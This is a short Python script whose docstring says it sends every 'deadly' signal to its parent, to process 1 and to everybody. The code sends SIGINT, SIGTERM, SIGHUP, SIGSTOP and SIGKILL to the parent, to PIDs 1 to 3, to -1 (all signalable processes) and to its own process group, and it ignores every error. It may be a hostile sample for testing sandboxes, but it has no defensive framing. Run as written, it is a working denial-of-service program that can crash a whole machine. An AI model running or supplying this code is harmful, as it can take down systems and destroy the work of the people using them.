"""Sends every deadly signal to its parent, to process 1 and to everybody."""

import os
import signal

for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
    for pid in (os.getppid(), 1, 2, 3, -1, 0):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, number)
        except (OSError, KeyboardInterrupt):
            pass
